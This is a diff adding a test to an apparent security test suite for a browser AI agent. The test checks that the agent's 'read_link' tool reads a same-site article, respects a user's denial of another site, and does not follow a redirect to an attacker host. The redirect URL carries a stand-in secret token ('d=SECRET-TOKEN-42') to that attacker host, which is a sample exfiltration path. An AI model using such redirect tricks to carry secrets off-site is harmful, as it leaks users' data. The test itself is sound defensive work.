@@ -160,6 +160,31 @@ test("the browser's fence stops what the page does after a harmless click, and a
   assert.deepEqual(posts(), [], "the page's own server got no POST");
 });
 
+test("read_link reads a same-site article without moving the tab; another site's asks (a denial holds), a redirect is not followed", { timeout: 120_000 }, async () => {
+  const url = pageUrl("links");
+  const page = await openAgentPage(chrome, url);
+  const hop = `${site.url}/go?to=${encodeURIComponent(`${attacker.url}/redirected?d=SECRET-TOKEN-42`)}`;
+  await useScript(chrome, [
+    call("read_link", `url:${str("article.html")}`),
+    call("read_link", `url:${str(`${attacker.url}/story`)}`),
+    call("read_link", `url:${str(hop)}`),
+    done("The colony has grown to forty-two nests."),
+  ]);
+  await ask(page, "How big is the heron colony in the linked article?");
+  await denyCard(page, [new URL(attacker.url).hostname]);
+  assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
+  const prompts = await scriptedPrompts(chrome);
+  // The article as passages, without the page's navigation and footer.
+  assert.match(prompts[1], /Page: Herons of the estuary — http:\/\/127\.0\.0\.1:\d+\/attacks\/article\.html/);
+  assert.match(prompts[1], /\[\d\] Every spring the grey herons come back/);
+  assert.match(prompts[1], /\[\d\] The warden says the new footpath/);
+  assert.doesNotMatch(prompts[1], /Estuary Gazette|Subscribe/, "the reader view drops the page's chrome");
+  assert.match(prompts[3], /does not follow redirects/);
+  assert.equal(page.url(), url, "the tab never moved");
+  assert.ok(site.log.includes("GET /attacks/article.html"), "the article was fetched from its own site");
+  assert.deepEqual(attacker.log, [], "the denied site and the redirect's destination saw nothing");
+});
+
 test("a same-site address that redirects to another site is judged again at the hop", { timeout: 120_000 }, async () => {
   const url = pageUrl("fence");
   const page = await openAgentPage(chrome, url);
